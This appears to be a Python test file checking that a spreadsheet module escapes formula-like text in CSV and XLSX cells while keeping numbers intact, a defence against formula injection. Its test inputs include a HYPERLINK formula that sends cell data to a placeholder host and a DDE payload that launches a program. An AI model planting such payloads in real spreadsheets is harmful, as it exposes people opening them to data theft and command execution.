"""Formula-like text is made inert in CSV and XLSX cells, numbers stay numbers, and
the CSV quoting reads back as the original text."""

import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from boligtorg.core.spreadsheet import csv_unquote, csv_value, xlsx_append

ATTACK = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+47 1234", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1", "-cmd|' /C calc'!A0"]
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_in_csv(text):
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1, "-1"),
        (Decimal("-41.5"), "-41.5"),
        (-0.5, "-0.5"),
        ("-12", "-12"),
        ("+4,5", "+4,5"),
        ("Kongens gate 1", "Kongens gate 1"),
        ("Lade allé 5; oppgang B", "Lade allé 5; oppgang B"),
        ("H0101", "H0101"),
        (None, ""),
        ("", ""),
    ],
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value, written):
    assert csv_value(value) == written


def test_an_apostrophe_before_a_formula_is_kept_through_a_round_trip():
    assert csv_value("'=1+1") == "''=1+1"
    assert csv_unquote("''=1+1") == "'=1+1"
    assert csv_unquote("'Hei") == "'Hei"


@given(st.text())
def test_csv_quoting_reads_back_as_the_original_text(text):
    assert csv_unquote(csv_value(text)) == text


@given(st.text())
def test_no_csv_cell_starts_with_a_formula_character_unless_it_is_a_number(text):
    written = csv_value(text)
    assert not written.startswith(("=", "@", "\t", "\r"))
    if written.startswith(("+", "-")):
        assert float(written.replace(",", ".")) is not None


def test_an_xlsx_cell_of_formula_like_text_is_quote_prefixed_text_and_numbers_stay_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    xlsx_append(sheet, [ATTACK, "@SUM(A1)", -1, Decimal("12.5"), "Munkegata 3"])
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    attack, at_sign, minus_one, decimal, plain = cells
    assert (attack.data_type, attack.value, attack.quotePrefix) == ("s", ATTACK, True)
    assert (at_sign.data_type, at_sign.value, at_sign.quotePrefix) == ("s", "@SUM(A1)", True)
    assert (minus_one.data_type, minus_one.value) == ("n", -1)
    assert (decimal.data_type, decimal.value) == ("n", 12.5)
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "Munkegata 3", False)
